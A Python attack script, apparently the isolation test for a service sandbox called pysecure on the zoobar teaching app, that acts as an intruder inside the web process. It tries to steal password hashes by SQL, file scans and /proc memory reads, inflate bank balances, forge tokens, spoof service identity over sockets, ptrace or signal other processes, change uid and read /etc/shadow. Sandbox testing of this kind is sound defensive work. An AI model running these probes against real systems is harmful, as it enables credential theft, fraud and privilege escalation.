"""What somebody does who has broken into the pages, and runs code of his own there: he has no password and no token.

    pysecure exec -T web -- python3 - < examples/zoobar/attack.py

Each line is `TAKEN` or `held`, what was tried, and what came of it. The test runs it inside of the very process that
serves the pages, separated and as one process.
"""

import contextlib
import ctypes
import glob
import os
import re
import socket
import sqlite3
import sys

for folder in ("/zoobar", "/run/pysecure/python"):
    if os.path.isdir(folder) and folder not in sys.path:
        sys.path.append(folder)

#: A stored password's, and not the one of nobody that stands in authsvc's code.
HASH = re.compile(rb"scrypt\$\d+\$\d+\$\d+\$(?!0{32})[0-9a-f]{32}\$[0-9a-f]{128}")
ME = os.getpid()
#: The host's numbers of other services' processes: somebody may have let them slip.
TARGETS = [int(n) for n in os.environ.get("ZOOBAR_TARGETS", "").split()]
libc = ctypes.CDLL(None, use_errno=True)


def attempt(what, do):
    """`do` returns what it took, or nothing, or is refused."""
    try:
        taken = do()
    except BaseException as error:
        taken, why = None, f"{type(error).__name__}: {error}"
    else:
        why = "there is nothing to take"
    print(f"TAKEN  {what}: {taken}" if taken else f"held   {what}: {why}", flush=True)


def folders():
    """Where the databases may be."""
    return [os.environ.get("ZOOBAR_DB", "/zoobar/db"), *(f"/proc/{pid}/root/zoobar/db" for pid in others())]


def others():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != ME]


def first(actions):
    """What the first action takes that takes anything; else the last one's refusal."""
    refusal = None
    for action in actions:
        try:
            if taken := action():
                return taken
        except Exception as error:
            refusal = error
    if refusal:
        raise refusal


# Password hashes.


def hashes_by_sql(folder):
    with sqlite3.connect(f"file:{folder}/cred/cred.db?mode=ro", uri=True) as database:
        return database.execute("select name, password from users").fetchall()


def hashes_in_files():
    """In every file that can be read, wherever it is."""
    for top in (*folders(), "/zoobar", "/tmp", "/var", "/data", "/home", "/root", "/srv", "/run", "/dev/shm"):
        for folder, _, names in os.walk(top):
            for name in names:
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        if found := HASH.findall(file.read(1 << 24)):
                            return found
                except OSError:
                    pass


def hashes_by_code():
    """The services' own code, run here: it opens what they open."""
    import auth
    import pysecure_rpc

    with pysecure_rpc.local("banksvc"):
        return auth.database().execute("select password from users").fetchall()


# Money.


def money_by_sql(folder):
    with sqlite3.connect(f"file:{folder}/bank/bank.db?mode=rw", uri=True) as database:
        return database.execute("update accounts set zoobars = 1000000").rowcount


def money_by_forged_token():
    import bank

    for token in ("", "admin", "0" * 43, "' or 1=1 --", "\0", "alice"):
        try:
            return bank.transfer(token, "bob", 1)
        except (ValueError, PermissionError):
            pass


def money_by_own_login():
    """The bank's own code, run here, with a login that says what is wanted."""
    import auth
    import bank
    import pysecure_rpc

    real, auth.check_token = auth.check_token, lambda token: "alice"
    try:
        with pysecure_rpc.local("web"):
            return f"alice has {bank.transfer('', 'bob', 1)} left"
    finally:
        auth.check_token = real


def money_by_token_for_anybody():
    """A token that nobody asked for, by authsvc's own code."""
    import auth
    import bank

    return f"alice has {bank.transfer(auth._new_token('alice'), 'bob', 1)} left"


# Others' memory.


def memory():
    """Of every process there is, this one too: what is in the services' heads."""
    found = []
    for pid in [ME, *others()]:
        try:
            maps = [line.split() for line in open(f"/proc/{pid}/maps")]
            with open(f"/proc/{pid}/mem", "rb", 0) as mem:
                for ends, access, *_ in maps:
                    begin, end = (int(n, 16) for n in ends.split("-"))
                    if access.startswith("rw") and end - begin < 1 << 28:
                        try:
                            mem.seek(begin)
                            found += HASH.findall(mem.read(end - begin))
                        except (OSError, ValueError, OverflowError):
                            pass
        except OSError:
            pass
    return found


def other_services(by):
    """The services' processes, as far as they can be seen: not this one's own (master and workers of gunicorn)."""
    found = []
    for pid in others():
        command = open(f"/proc/{pid}/cmdline", "rb").read()
        if re.search(rb"auth\.py|bank\.py|profiles\.py", command):
            found.append((pid, command))
    if found:
        return by(found)
    raise ProcessLookupError("no process of another service is to be seen")


def reach(pid):
    """Looks at a process without disturbing it: by process_vm_readv(2), which asks for what ptrace(2) asks for."""
    byte = ctypes.create_string_buffer(1)
    here = Piece(ctypes.addressof(byte), 1)
    there = Piece(0, 1)  # nothing is mapped there: EFAULT says that it would have been allowed
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) == 0 or ctypes.get_errno() == 14:
        return f"memory of process {pid}"
    os.kill(pid, 0)
    return f"could signal process {pid}"


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def strangers():
    """Numbers that processes of others may have, seen or not: all but those that are shown to be this user's."""
    for pid in [*TARGETS, *range(2, 4000)]:
        try:
            if os.stat(f"/proc/{pid}").st_uid == os.getuid():
                continue
        except OSError:
            pass
        yield pid


def trace():
    """The services' processes by the host's numbers, if the attacker was told them."""
    for pid in TARGETS:
        if pid not in others() and libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            return pid


# Somebody else's name.


def call_as_bank():
    """A function that is granted to banksvc, and not to the pages."""
    import auth

    return f"alice exists: {auth.exists('alice')}" if auth.exists("alice") else None


def others_sockets():
    """Any socket that is not one of the pages' own."""
    own = {os.path.realpath(p) for p in glob.glob("/run/pysecure/rpc/*.sock")}
    near = glob.glob("/run/pysecure/**/*.sock", recursive=True)
    near += [f"/run/pysecure/rpc/../{s}/authsvc.sock" for s in ("banksvc", "profilesvc", "operator")]
    near += [f"/proc/{pid}/root/run/pysecure/rpc/authsvc.sock" for pid in others()]

    def connect(path):
        with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as sock:
            sock.connect(path)
            return path

    return first([lambda p=p: connect(p) for p in near if os.path.realpath(p) not in own])


def say_another_name():
    """The greeting says who one is taken for; nothing that is sent should change it."""
    from pysecure_rpc import _client

    own = _client.connect("authsvc", None).caller

    def greeted():
        return {_client.connect("authsvc", None).caller} - {own}

    def lie(name):
        connection = _client.connect("authsvc", None)
        connection.sock.send(_client.pack([1, 1, "authsvc", name, {}]))
        return greeted()

    os.environ["PYSECURE_SERVICE"] = "banksvc"
    return first([lambda: lie("banksvc"), lambda: lie({"caller": "banksvc"}), greeted])


def serve_in_its_place():
    """A socket of one's own where the pages' callees, or their callers, would look."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as sock:
        sock.bind("/run/pysecure/rpc/banksvc2.sock")
        return "a socket beside the others"


def become(change):
    uids = [*(os.getuid() + step for step in range(-5, 6)), 0]
    for uid in uids:
        if uid >= 0 and uid != os.getuid():
            with contextlib.suppress(OSError):
                change(uid)
                return f"uid {os.getuid()}"


# The way out.


def out():
    return first(
        [
            lambda: open("/etc/shadow").read(20),
            lambda: os.listdir("/var/lib/pysecure"),
            lambda: os.chroot("/proc/1/root") or "chroot",
            lambda: open("/zoobar/auth.py", "a").write("") == 0 and "wrote the services' code",
            lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 and "mounted",
            lambda: libc.unshare(0x10000000) == 0 and "made a user namespace",
        ]
    )


def network():
    """Is there a way out at all? Connecting a datagram socket asks for the route, and sends nothing."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect(("192.0.2.1", 9))
        return "a way by " + sock.getsockname()[0]


attempt("hashes from memory", memory)
attempt("hashes by SQL", lambda: first([lambda f=f: hashes_by_sql(f) for f in folders()]))
attempt("hashes in any file", hashes_in_files)
attempt("hashes by authsvc's code", hashes_by_code)
attempt("money by a forged token", money_by_forged_token)
attempt("money by SQL", lambda: first([lambda f=f: money_by_sql(f) for f in folders()]))
attempt("money by banksvc's code and a login of one's own", money_by_own_login)
attempt("money by a token that authsvc's code makes", money_by_token_for_anybody)
attempt("see another service's process", lambda: other_services(lambda found: found))
attempt("reach what is not one's own", lambda: first([lambda p=p: reach(p) for p in strangers()]))
attempt("trace another service's process", trace)
attempt("a function that only banksvc may call", call_as_bank)
attempt("another caller's socket", others_sockets)
attempt("another caller's name", say_another_name)
attempt("serve in a service's place", serve_in_its_place)
attempt("become another service's user", lambda: first([lambda: become(os.setuid), lambda: become(os.seteuid)]))
attempt("get out", out)
attempt("a way to the world", network)
print("that was all", flush=True)
